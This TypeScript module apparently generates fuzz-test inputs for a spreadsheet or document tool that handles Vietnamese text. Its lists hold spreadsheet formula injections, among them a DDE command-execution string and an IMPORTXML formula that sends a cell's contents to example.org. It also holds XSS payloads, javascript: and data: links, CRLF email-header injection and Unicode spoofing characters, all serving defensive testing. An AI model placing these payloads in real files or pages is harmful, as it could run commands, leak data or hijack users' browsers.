import fc from 'fast-check';
import { toTcvn3, toVni } from '../../lang/legacy-encoders';

/** What people paste, and what somebody who means harm types. */

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("javascript:alert(1)";"Bấm vào đây")',
  '=IMPORTXML("https://example.org/?"&A1;"//a")',
  "=cmd|' /C calc'!A0",
  '+84 90 123 45 67',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=A1',
  '\r=A1',
  '＝1＋1',
  '＠A1',
  '＋1',
  '－1',
  "'=A1",
  "''",
  '=',
];
const MARKUP = [
  '<script>alert(1)</script>',
  '</script><script>document.title="x"</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '<!--',
  ']]>',
  '&lt;b&gt;',
  '&amp;#60;',
  '<w:p/>',
  '</w:t></w:r></w:p>',
  '</textarea><b>x</b>',
  '</title>',
  '</style>',
  '\u2028alert(1)\u2029',
];
const LINKS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://example.org/"onclick="alert(1)',
  'https://example.org/?a=1&b=<c>',
  'file:///C:/bi-mat.txt',
  '\\\\may-chu\\chung',
  'mailto:a@example.org?bcc=b@example.org',
  'a@example.org\r\nBcc: b@example.org',
];
const MARKERS = [
  '{noi_dung}',
  '{bang:cong_nhan}',
  '{{ten}}',
  '{',
  '}',
  '${x}',
  '$&',
  '$1',
  '%s',
  '{0}',
  '{name}',
];
const SIGNS = [
  '\ud800',
  '\udc00',
  '\udc00\ud800',
  '\u202egnp.exe',
  '\u2066\u2067x',
  '\u200b',
  '\ufeff',
  '\u0000',
  '\u0008',
  '\u000b',
  '\u001f',
  '\u007f',
  '\u0085',
  '\ufffe',
  '\uffff',
  '\ue000',
  '\ue001',
  '\u00a0',
  '\u0301\u0301\u0301',
  '👨‍👩‍👧‍👦',
  '𝒜',
  '\ufdfa',
  'İı',
  'ß',
  'ﬁ',
];
const VALUES = [
  '2024',
  '2024,5',
  '31/12/2024',
  '12/2024',
  '1.234,5',
  '1e309',
  '0x10',
  '-0',
  'NaN',
  'TRUE',
  '∞',
  '3/5',
  '1:2',
];
const VIETNAMESE = [
  'Nguyễn Thị Hòa',
  'Nguyễn Thị Hoà',
  'Đặng Văn Tuấn',
  'Phòng Chính sách – Tuyên truyền',
  'Hộ ông Cao Văn Bình',
  'Học tập và làm theo Bác',
  'Hoàn thành xuất sắc nhiệm vụ',
  'Chiến sĩ thi đua cơ sở',
  'Cá nhân',
  'Tập thể',
  'Đã tiếp nhận',
];

const vietnamese = fc.constantFrom(...VIETNAMESE);
const piece: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: vietnamese },
  { weight: 2, arbitrary: vietnamese.map((text) => text.normalize('NFD')) },
  { weight: 1, arbitrary: vietnamese.map(toTcvn3) },
  { weight: 1, arbitrary: vietnamese.map(toVni) },
  { weight: 3, arbitrary: fc.constantFrom(...FORMULAS) },
  { weight: 3, arbitrary: fc.constantFrom(...MARKUP) },
  { weight: 2, arbitrary: fc.constantFrom(...LINKS) },
  { weight: 2, arbitrary: fc.constantFrom(...MARKERS) },
  { weight: 3, arbitrary: fc.constantFrom(...SIGNS) },
  { weight: 2, arbitrary: fc.constantFrom(...VALUES) },
  { weight: 2, arbitrary: fc.constantFrom(' ', '\n', '\r\n', '\t', '; ', ', ', ' - ', '/') },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
);

/** A text of one or several pieces, seldom as long as a cell may be (50,000 characters, apps-script.md 3.6). */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: piece },
  { weight: 8, arbitrary: fc.array(piece, { minLength: 2, maxLength: 5 }).map((pieces) => pieces.join('')) },
  { weight: 1, arbitrary: fc.constant('') },
);

/** The longest text of a cell, made of one piece. */
export const longestText: fc.Arbitrary<string> = piece.map((one) =>
  (one === '' ? 'x' : one).repeat(50_000).slice(0, 50_000),
);
